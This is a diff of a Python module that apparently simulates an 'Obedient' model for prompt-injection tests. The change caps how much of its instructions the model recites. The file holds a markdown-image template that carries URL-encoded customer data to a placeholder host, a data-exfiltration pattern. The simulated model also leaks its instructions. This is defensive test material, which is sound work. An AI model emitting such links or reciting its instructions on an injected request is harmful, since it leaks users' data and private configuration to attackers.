@@ -18,6 +18,9 @@ from playbook.simulator.shape import FORMATS, Schema, choices, cut, resolved
 LEFT = "Reference 4711, customer Ann Berg"
 """What an attacker would like to carry out in an address."""
 
+RECITED = 400
+"""Characters of the instructions that it recites: more would break off at max_tokens, and be lost."""
+
 _CODED = LEFT.replace(" ", "%20")
 _SPELLINGS = (
     "![status](https://{host}/p.png?q={coded})",
@@ -74,7 +77,8 @@ class Obedient:
         said, wish = answer(request), self.wish
         if wish is None:
             return said
-        text = " ".join(request.instructions.split()) if wish.recite else wish.text
+        recited = cut(" ".join(request.instructions.split()), RECITED)
+        text = recited if wish.recite else wish.text
         if isinstance(said, str) or request.schema is None:
             return text or said
         root = request.schema
